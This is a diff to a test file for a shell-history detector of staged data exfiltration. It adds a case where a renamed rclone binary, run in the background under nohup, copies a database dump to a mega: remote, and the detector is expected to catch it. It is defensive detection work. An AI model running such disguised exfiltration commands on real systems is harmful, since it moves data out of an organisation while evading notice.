@@ -157,6 +157,9 @@ test("staged-data-exfiltration: rclone to a remote counts with a dropper's signs
   t.match(dropped[0]?.summary, /mega:bkp/);
   t.same(history("rclone sync /srv/backups b2:acme-backups --fast-list"), [], "a backup of a data directory to a bucket");
   t.same(history("rclone copy /tmp/report.csv gdrive:reports"), [], "a packaged rclone copying a plain temp file: no dropper's sign");
+  const renamed = history("nohup ~/.local/bin/pg_walsync copy /tmp/dump.tar.gz mega:/dump --transfers 8 -q --auto-confirm &");
+  t.match(renamed[0]?.summary, /rclone renamed pg_walsync/, "renamed, rclone is known by its own options");
+  t.same(history("~/.local/bin/pg_walsync copy /tmp/dump.tar.gz mega:/dump"), [], "a copy command without rclone's options is not taken for rclone");
 });
 
 test("socat joining two sockets is a port forwarder: no reverse shell, no shell-like listener; socat running a shell is both", async (t) => {
